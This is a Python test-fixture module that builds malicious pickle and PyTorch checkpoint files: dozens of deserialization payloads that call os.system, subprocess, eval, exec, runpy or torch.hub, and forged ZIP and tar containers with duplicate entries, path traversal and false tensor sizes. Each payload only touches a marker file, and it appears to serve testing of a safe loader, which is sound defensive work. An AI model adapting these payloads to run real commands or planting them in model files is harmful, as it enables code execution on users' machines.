"""Hostile files: pickles that run code, and containers that hide them or claim sizes they do not have.

Every payload creates a file at a given path and does nothing else.
"""

from __future__ import annotations

import codecs
import copyreg
import functools
import hashlib
import importlib
import io
import json
import marshal
import operator
import os
import pickle
import pickletools
import runpy
import struct
import subprocess
import sys
import tarfile
import timeit
import zipfile
from collections import Counter, OrderedDict, deque
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import torch

EXTENSION = 0xF1
"""The number that `os.system` has among the extensions of `copyreg`, where it was registered."""


class Call:
    """Pickles as a call of `function` with `arguments`, and perhaps a state that is set afterwards."""

    def __init__(self, function: Any, *arguments: Any, state: Any = None) -> None:
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts

    def __call__(self) -> None:
        """Make an instance callable, so that it can be the function of another call."""


def text(value: str) -> bytes:
    """The opcode for a text, in protocol 2."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def touch(marker: str) -> str:
    return f"touch {marker}"


def code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _body(value: Any, protocol: int = 2) -> bytes:
    """A pickle without its first and last opcode, to be embedded in another."""
    return pickle.dumps(value, protocol)[2:-1] if protocol < 4 else pickletools.optimize(pickle.dumps(value, 3))[2:-1]


def _partial_with_keywords(function: Any, *arguments: Any, **keywords: Any) -> Any:
    return functools.partial(function, *arguments, **keywords)


def legacy(content: bytes, storages: Mapping[str, bytes] | None = None) -> bytes:
    """The format before PyTorch 1.6 around the pickle `content`."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, system))
    kept = storages or {}
    return head + content + pickle.dumps(list(kept), 2) + b"".join(kept.values())


def archive(content: bytes, storages: Mapping[str, bytes] | None = None, **more: bytes) -> bytes:
    """A ZIP archive as torch.save writes one around the pickle `content`."""
    entries = {"data.pkl": content, "byteorder": b"little", **more}
    entries |= {f"data/{key}": raw for key, raw in (storages or {}).items()}
    entries |= {"version": b"3\n"}
    return zipped([(f"archive/{name}", raw) for name, raw in entries.items()])


def zipped(entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, raw in entries:
            file.writestr(zipfile.ZipInfo(name), raw, compression)
    return buffer.getvalue()


def tar(content: bytes) -> bytes:
    """The format of PyTorch 0.1 around the pickle `content`."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as file:
        none, zero = pickle.dumps([], 2), pickle.dumps(0, 2)
        files = {"sys_info": none, "storages": zero + none, "tensors": zero, "pickle": content}
        for name, raw in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            file.addfile(info, io.BytesIO(raw))
    return buffer.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {"zip": archive, "legacy": legacy, "tar": tar}


def with_digest(data: bytes) -> bytes:
    """An archive with a matching digest, which an attacker can write, too."""
    assert data.endswith(b"\0\0"), "an archive without a comment"
    comment = b"dbbd sha256 " + hashlib.sha256(data[:-2]).hexdigest().encode()
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _nested(marker: str) -> bytes:
    return legacy(pickle.dumps(Call(os.system, touch(marker)), 2))


def _function(marker: str) -> bytes:
    raw = marshal.dumps(compile(code(marker), "<payload>", "exec"))
    return b"\x80\x02" + _call("types", "FunctionType", Call(marshal.loads, raw), {}) + b")R."


def _object_array(item: Any) -> np.ndarray:
    array = np.empty(1, dtype=object)
    array[0] = item
    return array


def _hub(marker: str) -> Any:
    folder = Path(f"{marker}.hub")
    folder.mkdir(exist_ok=True)
    (folder / "hubconf.py").write_text(f"{code(marker)}\ndef model():\n    return None\n")
    return Call(torch.hub._load_local, str(folder), "model")


def _script(marker: str) -> str:
    path = Path(f"{marker}.py")
    path.write_text(code(marker))
    return str(path)


def _call(module: str, name: str, *arguments: Any) -> bytes:
    """A call of an attribute of a module, even if it cannot be pickled by reference."""
    inner = b"(" + b"".join(_body(argument) for argument in arguments) + b"t"
    return f"c{module}\n{name}\n".encode() + inner + b"R"


def _by_name(*parts: Any) -> bytes:
    return b"\x80\x02" + _call(*parts) + b"."


def _set_state(marker: str) -> bytes:
    """Gives an object the method __setstate__, and then a state."""
    new = b"\x80\x02ctypes\nSimpleNamespace\n)\x81"
    return new + b"}" + text("__setstate__") + b"cos\nsystem\nsb" + text(touch(marker)) + b"b."


def _partial_state(marker: str) -> bytes:
    """Makes a harmless partial, gives it another function by its __setstate__, and calls it."""
    new = b"\x80\x02cfunctools\npartial\n(cbuiltins\nprint\nt\x81"
    return new + b"(cos\nsystem\n" + text(touch(marker)) + b"\x85}Ntb)R."


def _dotted(marker: str) -> bytes:
    """A name with dots in a module that everybody trusts: only protocol 4 and later follow these."""
    name = b"\x8c\x13torch.serialization\x8c\x09os.system\x93"
    return b"\x80\x04" + name + text(touch(marker)) + b"\x85R."


def _extension(marker: str) -> bytes:
    return b"\x80\x02\x82" + bytes([EXTENSION]) + text(touch(marker)) + b"\x85R."


def _persistent(marker: str) -> bytes:
    return b"\x80\x02(" + text("storage") + _call("os", "system", touch(marker)) + text("0") + text("cpu") + b"K\x01tQ."


def _loaded_anew(marker: str) -> Any:
    """torch.load without safety, as requested by the file of an attacker."""
    load = _partial_with_keywords(torch.load, weights_only=False)
    return Call(load, Call(io.BytesIO, _nested(marker)))


def _graph(marker: str) -> Any:
    reduce_graph = importlib.import_module("torch.fx.graph_module").reduce_graph_module
    return Call(reduce_graph, {"_code": "pass"}, code(marker) + "\n")


def _dumps(make: Callable[[str], Any], protocol: int = 2) -> Callable[[str], bytes]:
    return lambda marker: pickle.dumps(make(marker), protocol)


PAYLOADS: dict[str, tuple[Callable[[str], bytes], str]] = {
    "os.system": (_dumps(lambda m: Call(os.system, touch(m))), "posix.system"),
    "os.system, protocol 0": (lambda m: b"cos\nsystem\n(S'" + touch(m).encode() + b"'\ntR.", "os.system"),
    "os.system, protocol 4": (_dumps(lambda m: Call(os.system, touch(m)), 4), "posix.system"),
    "os.spawnv": (_dumps(lambda m: Call(os.spawnv, os.P_WAIT, "/bin/sh", ["sh", "-c", touch(m)])), "os.spawnv"),
    "subprocess": (_dumps(lambda m: Call(subprocess.check_call, ["touch", m])), "subprocess.check_call"),
    "eval": (_dumps(lambda m: Call(eval, code(m))), "builtins.eval"),
    "exec": (_dumps(lambda m: Call(exec, code(m)), 3), "builtins.exec"),
    "open": (_dumps(lambda m: Call(open, m, "w")), "io.open"),
    "getattr of an import": (
        _dumps(lambda m: Call(Call(getattr, Call(__import__, "os"), "system"), touch(m))), "builtins.getattr"),
    "importlib": (
        _dumps(lambda m: Call(Call(getattr, Call(importlib.import_module, "os"), "system"), touch(m))),
        "builtins.getattr"),
    "partial": (_dumps(lambda m: Call(functools.partial(os.system, touch(m)))), "functools.partial"),
    "partial in a new object": (
        lambda m: b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + text(touch(m)) + b"t\x81)R.", "functools.partial"),
    "partial by keywords": (
        lambda m: b"\x80\x04cfunctools\npartial\n(cos\nsystem\n" + text(touch(m)) + b"t}\x92)R.", "functools.partial"),
    "partial with a state": (_partial_state, "functools.partial"),
    "attrgetter": (
        _dumps(lambda m: Call(Call(operator.attrgetter("system"), Call(__import__, "os")), touch(m))),
        "operator.attrgetter"),
    "methodcaller": (
        _dumps(lambda m: Call(operator.methodcaller("system", touch(m)), Call(__import__, "os"))),
        "operator.methodcaller"),
    "map in a Counter": (_dumps(lambda m: Call(Counter, Call(map, os.system, [touch(m)]))), "builtins.map"),
    "map in a deque": (_dumps(lambda m: Call(deque, Call(map, eval, [code(m)]))), "collections.deque"),
    "INST": (lambda m: b"(S'" + touch(m).encode() + b"'\nios\nsystem\n.", "os.system"),
    "OBJ": (lambda m: b"\x80\x02(cos\nsystem\n" + text(touch(m)) + b"o.", "os.system"),
    "BUILD with __setstate__": (_set_state, "types.SimpleNamespace"),
    "extension code": (_extension, ""),
    "persistent id": (_persistent, "os.system"),
    "name with dots": (_dotted, "torch.serialization.os.system"),
    "storage within": (
        lambda m: _by_name("torch.storage", "_load_from_bytes", _nested(m)), "torch.storage._load_from_bytes"),
    "storage within a storage": (
        lambda m: _by_name("torch.storage", "_load_from_bytes", legacy(
            _by_name("torch.storage", "_load_from_bytes", _nested(m)))), "torch.storage._load_from_bytes"),
    "torch.load": (_dumps(_loaded_anew), "functools.partial"),
    "torch.hub": (_dumps(_hub), "torch.hub._load_local"),
    "torch.fx": (_dumps(_graph), "torch.fx.graph_module.reduce_graph_module"),
    "torch.utils": (
        lambda m: _by_name("torch.utils.collect_env", "run", ["touch", m]), "torch.utils.collect_env.run"),
    "array of objects": (_dumps(lambda m: _object_array(Call(os.system, touch(m)))), "numpy"),
    "scalar of objects": (
        lambda m: b"\x80\x02cnumpy._core.multiarray\nscalar\n(cnumpy\ndtype\n(" + text("O8")
        + b"\x89\x88tR" + _call("os", "system", touch(m)) + b"tR.", "numpy._core.multiarray.scalar"),
    "pickle within": (
        _dumps(lambda m: Call(pickle.loads, pickle.dumps(Call(os.system, touch(m))))), "pickle.loads"),
    "runpy": (_dumps(lambda m: Call(runpy.run_path, _script(m))), "runpy.run_path"),
    "timeit": (_dumps(lambda m: Call(timeit.timeit, code(m), "pass", timeit.default_timer, 1)), "timeit.timeit"),
    "function of bytecode": (_function, "types.FunctionType"),
    "codecs": (_dumps(lambda m: {codecs.encode: Call(os.system, touch(m))}), "posix.system"),
    "hidden in a state dict": (
        _dumps(lambda m: OrderedDict(a=[1, {"b": (Call(eval, code(m)), 2)}], c=torch.Size([1]))), "builtins.eval"),
    "before a broken end": (
        lambda m: pickle.dumps(Call(os.system, touch(m)), 2)[:-1] + b"\xff\xfe broken", "posix.system"),
    "cut off": (lambda m: pickle.dumps([Call(os.system, touch(m)), "x" * 100], 2)[:-60], "posix.system"),
}  # fmt: skip
"""Name to the function that makes the pickle, given the path of the marker, and the code that it refers to."""


def scene_with(payload: bytes) -> bytes:
    """A pickled scene with a payload of any protocol in addition to its coordinates."""
    coord = np.random.default_rng(0).random((200, 3)).tolist()
    plain = pickletools.optimize(pickle.dumps(coord, 2))[2:-1]
    inner = payload[2:] if payload.startswith(b"\x80") else payload
    start = payload[:2] if payload.startswith(b"\x80") else b"\x80\x02"
    return start + b"}(" + text("coords") + plain + text("extra") + inner.removesuffix(b".") + b"u."


def tensor(
    storage: str = "FloatStorage", key: str = "0", count: int = 4, offset: int = 0,
    size: tuple[int, ...] = (4,), stride: tuple[int, ...] = (1,), rebuild: str = "_rebuild_tensor_v2",
    old: bool = False,
) -> bytes:  # fmt: skip
    """The opcodes of a tensor, whatever sizes it claims; `old` for the format before PyTorch 1.6."""
    module, name = storage.rsplit(".", 1) if "." in storage else ("torch", storage)
    identity = (
        b"("
        + text("storage")
        + f"c{module}\n{name}\n".encode()
        + text(key)
        + text("cpu")
        + _body(count)
        + (b"NtQ" if old else b"tQ")
    )
    shape = _body(offset) + pickletools.optimize(pickle.dumps(size, 2))[2:-1] + _body(stride)
    return f"ctorch._utils\n{rebuild}\n(".encode() + identity + shape + b"\x89ccollections\nOrderedDict\n)RtR"


def weights(*tensors: bytes) -> bytes:
    """The pickle of a state dict."""
    items = b"".join(text(f"weight{number}") + item for number, item in enumerate(tensors))
    return b"\x80\x02}(" + items + b"u."


RAW = np.arange(4, dtype="<f4").tobytes()


def _payload(marker: str) -> bytes:
    return pickle.dumps(Call(os.system, touch(marker)), 2)


def _twice(first: bytes, second: bytes, names: tuple[str, str] = ("archive/data.pkl", "archive/data.pkl")) -> bytes:
    return zipped([(names[0], first), ("archive/data/0", RAW), (names[1], second), ("archive/version", b"3\n")])


def _overlapping(marker: str) -> bytes:
    """The entry of a storage begins inside the pickle, which is code of another format there."""
    data = bytearray(archive(weights(tensor()), {"0": RAW}))
    entry = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 1)
    struct.pack_into("<I", data, entry + 42, 0)
    return bytes(data)


def _two_ends(marker: str) -> bytes:
    """The comment of an archive is the end of another one."""
    evil = archive(_payload(marker))
    good = archive(weights(tensor()), {"0": RAW})
    return good[:-2] + struct.pack("<H", min(len(evil), 0xFFFF)) + evil


def _renamed(marker: str) -> bytes:
    """The list of entries calls the payload data.pkl, its own header something else."""
    data = zipped([("archive/xxxx.pkl", _payload(marker)), ("archive/version", b"3\n")])
    place = data.rindex(b"archive/xxxx.pkl")
    return data[:place] + b"archive/data.pkl" + data[place + 16 :]


def _shared(depth: int) -> bytes:
    """A list of two lists of two lists ..., each of them one object: 2**depth values."""
    return b"\x80\x02K\x00q\x00" + b"".join(b"](h\x00h\x00eq\x00" for _ in range(depth)) + b"."


def _plain(content: bytes, **storages: bytes) -> Callable[[str], bytes]:
    return lambda marker: archive(content, storages or {"0": RAW})


LIES: dict[str, Callable[[str], bytes]] = {
    "data.pkl twice, code last": lambda m: _twice(weights(tensor()), _payload(m)),
    "data.pkl twice, code first": lambda m: _twice(_payload(m), weights(tensor())),
    "DATA.PKL next to data.pkl": lambda m: _twice(
        weights(tensor()), _payload(m), ("archive/data.pkl", "archive/DATA.PKL")
    ),
    "a second folder": lambda m: _twice(weights(tensor()), _payload(m), ("archive/data.pkl", "other/data.pkl")),
    "an entry with ..": lambda m: _twice(_payload(m), weights(tensor()), ("archive/../data.pkl", "archive/data.pkl")),
    "an absolute entry": lambda m: _twice(_payload(m), weights(tensor()), ("/tmp/data.pkl", "archive/data.pkl")),
    "overlapping entries": _overlapping,
    "an archive in the comment": _two_ends,
    "an entry with two names": _renamed,
    "TorchScript": lambda m: archive(
        weights(tensor()), {"0": RAW}, **{"constants.pkl": b"\x80\x02).", "code/m.py": b"x"}
    ),
    "a pickle that is a tar": lambda m: tar(_payload(m)) + archive(_payload(m)),
    "an archive behind code": lambda m: _payload(m) + archive(weights(tensor()), {"0": RAW}),
    "a storage smaller than its tensor": _plain(weights(tensor(size=(5,)))),
    "a storage smaller than it says": _plain(weights(tensor(count=8))),
    "a missing storage": _plain(weights(tensor(key="1"))),
    "a storage outside": _plain(weights(tensor(key="../../etc/passwd"))),
    "a storage of 10^12": _plain(weights(tensor(count=10**12, size=(10**12,)))),
    "a tensor of 10^12": _plain(weights(tensor(size=(10**6, 10**6), stride=(0, 0)))),
    "strides beyond the storage": _plain(weights(tensor(size=(2, 2), stride=(10**9, 1)))),
    "an offset beyond the storage": _plain(weights(tensor(offset=10**9, size=(1,)))),
    "a negative offset": _plain(weights(tensor(offset=-8))),
    "a negative size": _plain(weights(tensor(size=(-4,)))),
    "a tensor of another rebuild function": _plain(weights(tensor(rebuild="_rebuild_sparse_tensor"))),
    "an item of a tensor": _plain(b"\x80\x02" + tensor() + b"K\x00K\x01s."),
    "items of a storage": _plain(b"\x80\x02ctorch\nFloatStorage\n(K\x00K\x01u."),
    "a state of a tensor": _plain(b"\x80\x02" + tensor() + b"}" + text("grad") + b"K\x01sb."),
    "2^60 values": _plain(_shared(60)),
    "100,000 levels": _plain(b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."),
    "a list in itself": _plain(b"\x80\x02]q\x00h\x00a."),
    "a text of 4 GB": _plain(b"\x80\x02X\xff\xff\xff\xffabc."),
}
"""Name to the function that makes the file, given the path of the marker: files that hide code or have false sizes."""


def _class(name: str) -> bytes:
    """The opcode that names a class, as "module.name"."""
    return "c{}\n{}\n".format(*name.rsplit(".", 1)).encode()


def _object(kind: str = "evil.Config", state: bytes = b"}") -> bytes:
    """A plain object, as a pickle makes one: begun without arguments, then given its attributes."""
    return _class(kind) + b")\x81" + state + b"b"


def with_weights(content: bytes) -> bytes:
    """A file of weights that stores another value, too."""
    return archive(b"\x80\x02}(" + text("weight") + tensor() + text("config") + content + b"u.", {"0": RAW})


def _attribute(value: bytes, name: str = "a") -> bytes:
    return b"}" + text(name) + value + b"s"


OBJECTS: dict[str, bytes] = {
    "a function that is called": _class("evil.run") + text("x") + b"\x85R",
    "a class with arguments": _class("evil.Config") + text("x") + b"\x85\x81",
    "a class of PyTorch": _object("torch.nn.modules.linear.Linear"),
    "a class of Python": _object("subprocess.Popen"),
    "a class of Python 2": _object("__builtin__.object"),
    "a class instead of an object": _class("evil.Config"),
    "a function as __setstate__": _object(state=_attribute(_class("os.system"), "__setstate__")),
    "a call among the attributes": _object(state=_attribute(_class("os.system") + text("true") + b"\x85R")),
    "attributes set twice": _object(state=_attribute(text("x"), "__setstate__") + b"b}"),
    "attributes that are a class": _object(state=_class("evil.State")),
    "attributes without names": _object(state=b"}K\x01K\x02s"),
    "attributes of a class": _class("evil.Config") + b"}b",
    "attributes of a tensor": tensor() + _attribute(_object()) + b"b",
    "items of an object": _object() + b"K\x01K\x02s",
    "an object as a key": b"}" + _object() + b"K\x01s",
    "an object in itself": _class("evil.Config") + b")\x81q\x00" + _attribute(b"h\x00") + b"b",
    "an object instead of a storage": (
        b"ctorch._utils\n_rebuild_tensor_v2\n(" + _object() + b"K\x00K\x04\x85K\x01\x85\x89NtR"
    ),
    "a class instead of a storage type": (
        b"(" + text("storage") + _class("evil.Config") + text("0") + text("cpu") + b"K\x04tQ"
    ),
    "an object that is counted": b"ccollections\nCounter\n" + _object() + b"\x85R",
    "a namespace with arguments": _class("types.SimpleNamespace") + _object() + b"\x85R",
    "a path of objects": _class("pathlib.PosixPath") + _object() + b"\x85R",
    "a million objects": _class("evil.Config") + b"q\x000](" + b"h\x00)\x81" * 1_000_000 + b"e",
}
"""Values stored next to weights that abuse the reading of objects without their class."""


def main(folder: Path) -> None:
    """Load every payload without safety, and print which of them ran."""
    copyreg.add_extension(os.system.__module__, "system", EXTENSION)
    ran = {}
    for name, (make, _) in PAYLOADS.items():
        for how in (*CONTAINERS, "scene"):
            marker = folder / f"control-{len(ran)}"
            payload = make(str(marker))
            path = folder / "control.pth"
            path.write_bytes(scene_with(payload) if how == "scene" else CONTAINERS[how](payload))
            # Without safety on purpose: tests with payloads that do nothing could not fail.
            with suppress(BaseException), path.open("rb") as file:
                pickle.load(file) if how == "scene" else torch.load(path, weights_only=False)
            ran[f"{name}, {how}"] = marker.exists()
    print(json.dumps(ran))  # noqa: T201


if __name__ == "__main__":
    main(Path(sys.argv[1]))
